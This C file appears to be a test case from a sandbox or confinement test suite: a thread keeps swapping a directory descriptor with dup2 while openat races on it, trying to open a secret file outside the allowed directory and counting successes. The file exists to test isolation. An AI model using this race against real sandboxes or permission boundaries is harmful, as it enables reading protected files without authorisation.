/* SPDX-License-Identifier: GPL-3.0-or-later */
/* dirfd is given another directory by dup2 while openat looks at it. */
#include "race.h"

#define PLACE 100

static int directories[2];

static void *change(void *unused)
{
        for (int i = 0; !race_over; i = !i)
                dup2(directories[i], PLACE);
        return unused;
}

int main(void)
{
        const char *name = strrchr(secret_path(), '/') + 1;
        char path[PATH_MAX];
        int wins = 0, opened = 0;

        strcpy(path, secret_path());
        *strrchr(path, '/') = '\0';
        directories[0] = open(path, O_PATH | O_DIRECTORY);
        directories[1] = open(setting("ATTACK_WORK"), O_PATH | O_DIRECTORY);
        race_make_namesake();
        dup2(directories[1], PLACE);
        start_thread(change, NULL);
        for (int i = 0; i < ROUNDS; i++) {
                int fd = openat(PLACE, name, O_RDONLY | O_CLOEXEC);

                opened += fd >= 0;
                if (is_secret(fd) && wins++ == 0)
                        deed_show(dup(fd));
                if (fd >= 0)
                        close(fd);
        }
        race_over = true;
        SAY("wins: %d of %d (%d opened)\n", wins, ROUNDS, opened);
        return 0;
}
